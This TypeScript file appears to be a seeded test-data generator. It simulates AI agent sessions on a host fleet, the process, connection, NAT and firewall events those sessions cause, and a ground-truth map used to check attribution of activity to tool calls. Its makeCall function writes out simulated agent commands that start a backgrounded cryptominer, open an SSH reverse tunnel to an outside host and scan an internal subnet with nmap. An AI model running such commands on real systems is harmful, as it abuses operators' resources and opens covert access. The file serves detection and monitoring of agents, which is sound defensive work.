// Makes a fleet up: hosts, sessions, calls, the processes and connections they cause, what a firewall behind NAT sees of it, with clocks
// that are off and records that are lost. And what really caused what. All chance comes from one seed.
import { type EventInput, eventVersion, type StoredEvent } from '../protocol/event.ts'
import type { EventId, HostId, SessionId } from '../protocol/ids.ts'
import type { Trust } from '../protocol/trust.ts'

export type FleetOptions = {
  seed: number
  hosts: number
  sessions: number
  callsPerSession: number
  /** Clocks of hosts and sensors are off by up to this, either way. */
  skewMs: number
  lostShare: number
  /** `probe`: the host's probe holds the sessions. `audit`: nothing but audit records, without local ports. */
  observer: 'probe' | 'audit'
  /** Of flows, those whose source port the NAT changes too. */
  portRewrittenShare: number
  /** The host's connection tracking tells what the NAT made of a connection. */
  conntrack: boolean
}

export type Fleet = {
  events: StoredEvent[]
  /** What caused the fact, by event. Only facts that a call caused. */
  truth: Map<EventId, { session: SessionId; call: string }>
}

/** mulberry32: small, seeded, good enough for drawing test worlds. */
export function chanceOf(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let t = state
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

const startMs = 1_795_228_000_000
type Call = {
  command: string
  program: string
  argv: string[]
  durationMs: number
  to: { address: string; port: number; name?: string; alert?: string }[]
  background?: boolean
}

export function makeFleet(options: FleetOptions): Fleet {
  const chance = chanceOf(options.seed)
  const upTo = (n: number) => Math.floor(chance() * n)
  const truth: Fleet['truth'] = new Map()
  const drafts: { event: EventInput; atRealMs: number; source?: string; trust: Trust }[] = []
  let eventCount = 0
  const newId = () => {
    eventCount += 1
    return `00000000-0000-4000-8000-${eventCount.toString(16).padStart(12, '0')}` as EventId
  }
  const skew = () => Math.round((chance() * 2 - 1) * options.skewMs)
  const firewallSkew = skew()
  const hosts = Array.from({ length: options.hosts }, (_, index) => ({
    host: `node-${index}` as HostId,
    address: `10.9.${index}.1`,
    nat: `192.0.2.${index + 1}`,
    skewMs: skew(),
    nextPid: 1_000 + index,
  }))

  const tell = (
    event: Omit<EventInput, 'v' | 'id'>,
    realMs: number,
    skewMs: number,
    trust: Trust,
    source: string | undefined,
    cause?: { session: SessionId; call: string },
    mayBeLost = true,
  ) => {
    const id = newId()
    if (mayBeLost && chance() < options.lostShare) return
    drafts.push({
      event: { v: eventVersion, ...event, id, atMs: Math.round(realMs + skewMs) } as EventInput,
      // A host tells in order; traces and firewalls come when they come.
      atRealMs: realMs + 50 + (trust === 'kernel' ? 0 : chance() * 5_000),
      trust,
      ...(source !== undefined && { source }),
    })
    if (cause) truth.set(id, cause)
  }

  for (let index = 0; index < options.sessions; index += 1) {
    const host = hosts[index % hosts.length] as (typeof hosts)[number]
    const session = `ep-${index}` as SessionId
    const began = startMs + upTo(60_000)
    const rootPid = host.nextPid++
    const labels = { host: host.host, episode: String(index) }
    if (options.observer === 'probe') {
      tell(
        {
          kind: 'session.started',
          session,
          host: host.host,
          data: { held: 'cgroup', abilities: [], pid: rootPid, startTicks: rootPid },
        } as never,
        began,
        host.skewMs,
        'kernel',
        undefined,
        undefined,
        false,
      )
      process(rootPid, 1, ['python3', 'agent.py'], began)
    } else {
      tell(
        { kind: 'session.started', session, data: { held: 'none', abilities: [], labels } } as never,
        began,
        0,
        'trainer',
        'otlp/trainer',
        undefined,
        false,
      )
    }
    let now = began + 500
    for (let n = 0; n < options.callsPerSession; n += 1) {
      const call = makeCall(index)
      const id = `call_${index}_${n}`
      const ended = now + call.durationMs
      tell(
        {
          kind: 'action.started',
          session,
          data: { call: id, tool: 'bash', input: JSON.stringify({ command: call.command }), summary: call.command },
        } as never,
        now,
        0,
        'trainer',
        'otlp/trainer',
      )
      tell(
        { kind: 'action.ended', session, data: { call: id, outcome: 'ok' } } as never,
        ended,
        0,
        'trainer',
        'otlp/trainer',
      )
      const shell = host.nextPid++
      const child = host.nextPid++
      const shellMs = now + 8 + upTo(25)
      process(shell, rootPid, ['/bin/bash', '-c', call.command], shellMs)
      process(child, shell, call.argv, shellMs + 4)
      for (const to of call.to) {
        const openMs = shellMs + 20 + upTo(Math.max(20, Math.min(400, call.durationMs - 80)))
        connect(child, to, openMs, { session, call: id })
        // What runs on connects again, long after its call.
        if (call.background) connect(child, to, ended + 5_000 + upTo(20_000), { session, call: id })
      }
      now = ended + 200 + upTo(2_500)
    }

    function process(pid: number, ppid: number, argv: string[], realMs: number): void {
      if (options.observer === 'probe')
        tell(
          {
            kind: 'process.started',
            session,
            host: host.host,
            data: { pid, ppid, startTicks: pid, comm: (argv[0] ?? '').split('/').at(-1) ?? '', argv },
          } as never,
          realMs,
          host.skewMs,
          'kernel',
          undefined,
        )
      else
        tell(
          {
            kind: 'process.reported',
            host: host.host,
            data: { what: 'executed', process: { pid, ppid, comm: (argv[0] ?? '').split('/').at(-1) ?? '', argv } },
          } as never,
          realMs,
          host.skewMs,
          'kernel',
          'auditd/hosts',
        )
    }

    function connect(
      pid: number,
      to: Call['to'][number],
      realMs: number,
      cause: { session: SessionId; call: string },
    ): void {
      const port = 32_768 + upTo(28_000)
      const natPort = chance() < options.portRewrittenShare ? 1_024 + upTo(60_000) : port
      const comm = 'tool'
      const remote = { address: to.address, port: to.port }
      if (options.observer === 'probe')
        tell(
          {
            kind: 'connection.opened',
            session,
            host: host.host,
            data: {
              connection: `c${pid}-${port}-${Math.round(realMs)}`,
              protocol: 'tcp',
              local: { address: host.address, port },
              remote,
              direction: 'out',
              state: 'ESTAB',
              pid,
              startTicks: pid,
              comm,
            },
          } as never,
          realMs + upTo(40),
          host.skewMs,
          'kernel',
          undefined,
          cause,
        )
      else
        tell(
          {
            kind: 'connection.reported',
            host: host.host,
            data: { what: 'connected', process: { pid, comm }, protocol: 'unknown', remote },
          } as never,
          realMs,
          host.skewMs,
          'kernel',
          'auditd/hosts',
          cause,
        )
      if (options.observer === 'probe' && options.conntrack)
        tell(
          {
            kind: 'connection.translated',
            session,
            host: host.host,
            data: {
              connection: `c${pid}-${port}-${Math.round(realMs)}`,
              protocol: 'tcp',
              local: { address: host.address, port },
              remote,
              translated: { local: { address: host.nat, port: natPort }, remote },
            },
          } as never,
          realMs + 900,
          host.skewMs,
          'kernel',
          undefined,
        )
      const traffic = {
        protocol: 'tcp',
        source: { address: host.nat, port: natPort },
        destination: remote,
        flow: `${host.nat}-${natPort}-${Math.round(realMs)}`,
        flowStartedAtMs: Math.round(realMs + 1 + firewallSkew),
        ...(to.name !== undefined && { names: [to.name] }),
      }
      if (to.alert !== undefined)
        tell(
          {
            kind: 'alert.raised',
            data: { basis: 'signature', title: to.alert, severity: 'high', action: 'allowed', traffic },
          } as never,
          realMs + 3_000 * chance(),
          firewallSkew,
          'firewall',
          'suricata-eve/edge',
          cause,
        )
      tell(
        { kind: 'flow.observed', data: { traffic, verdict: 'allowed' } } as never,
        realMs + 1,
        firewallSkew,
        'firewall',
        'suricata-eve/edge',
        cause,
      )
    }
  }

  function makeCall(index: number): Call {
    const kind = upTo(8)
    const file = Math.floor(chance() * 1e9).toString(36)
    const shared = `198.51.100.${10 + upTo(5)}`
    const own = `203.0.113.${upTo(250)}`
    switch (kind) {
      case 0:
        return {
          command: `pytest -q tests/test_${file}.py`,
          program: 'pytest',
          argv: ['pytest', '-q', `tests/test_${file}.py`],
          durationMs: 2_000 + upTo(9_000),
          to: [],
        }
      case 1:
        return {
          command: `curl -s -o ${file} http://${shared}/data/${file}`,
          program: 'curl',
          argv: ['curl', '-s', '-o', file, `http://${shared}/data/${file}`],
          durationMs: 200 + upTo(900),
          to: [{ address: shared, port: 80 }],
        }
      case 2:
        return {
          command: `pip install pkg-${file}`,
          program: 'pip',
          argv: ['python3', '/usr/bin/pip', 'install', `pkg-${file}`],
          durationMs: 900 + upTo(4_000),
          to: [
            { address: '198.51.100.80', port: 443, name: 'packages.example' },
            { address: '198.51.100.81', port: 443, name: 'files.example' },
          ],
        }
      case 3:
        return {
          command: `git clone git@git.example:team/${file}.git`,
          program: 'git',
          argv: ['git', 'clone', `git@git.example:team/${file}.git`],
          durationMs: 400 + upTo(1_500),
          to: [{ address: '198.51.100.90', port: 22, name: 'git.example' }],
        }
      case 4:
        return {
          command: `nohup python3 .cache/w-${file} -o ${own}:3333 >/dev/null 2>&1 & sleep 1`,
          program: 'python3',
          argv: ['python3', `.cache/w-${file}`, '-o', `${own}:3333`],
          durationMs: 1_100,
          to: [{ address: own, port: 3_333, alert: 'ET POLICY Cryptocurrency Miner Checkin' }],
          background: true,
        }
      case 5:
        return {
          command: `ssh -f -N -R 2222:127.0.0.1:22 ops@${own} # ${file}`,
          program: 'ssh',
          argv: ['ssh', '-f', '-N', '-R', '2222:127.0.0.1:22', `ops@${own}`],
          durationMs: 300 + upTo(300),
          to: [{ address: own, port: 22, alert: 'SSH to a host on no allowlist' }],
        }
      case 6:
        return {
          command: `python3 train_${index}_${file}.py`,
          program: 'python3',
          argv: ['python3', `train_${index}_${file}.py`],
          durationMs: 3_000 + upTo(6_000),
          to: [
            { address: shared, port: 443 },
            { address: '198.51.100.80', port: 443, name: 'packages.example' },
          ],
        }
      default:
        return {
          command: `nmap -Pn -p 22,80 10.77.${index % 200}.0/28 # ${file}`,
          program: 'nmap',
          argv: ['nmap', '-Pn', '-p', '22,80', `10.77.${index % 200}.0/28`],
          durationMs: 1_500,
          to: Array.from({ length: 6 }, (_, at) => ({
            address: `10.77.${index % 200}.${at + 1}`,
            port: at % 2 === 0 ? 22 : 80,
          })),
        }
    }
  }

  // In the order in which the server gets to see them.
  drafts.sort((a, b) => a.atRealMs - b.atRealMs)
  const events = drafts.map(({ event, atRealMs, source, trust }, at) => ({
    ...event,
    partition: 0,
    seq: at + 1,
    seenAtMs: Math.round(atRealMs),
    trust,
    ...(source !== undefined && { source }),
  })) as StoredEvent[]
  return { events, truth }
}
